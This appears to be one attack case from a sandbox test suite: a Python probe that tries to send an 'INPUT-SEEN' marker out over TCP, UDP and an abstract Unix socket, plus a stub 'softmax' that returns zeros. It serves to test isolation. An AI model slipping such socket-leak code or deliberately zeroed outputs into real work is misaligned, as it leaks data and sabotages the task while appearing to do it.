# /// attack
# what = "Sends data out by TCP, UDP and local sockets."
# status = "failed"
# needs = "L2"
# ///

import socket

for family, kind, address in (
    (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", {PORT})),
    (socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", {PORT})),
    (socket.AF_UNIX, socket.SOCK_STREAM, "\0attn-leak"),
):
    try:
        with socket.socket(family, kind) as out:
            out.connect(address)
            out.send(b"INPUT-SEEN")
        print("BROKE", family, kind)
    except OSError:
        pass


def softmax(x, axis=-1):
    return x * 0
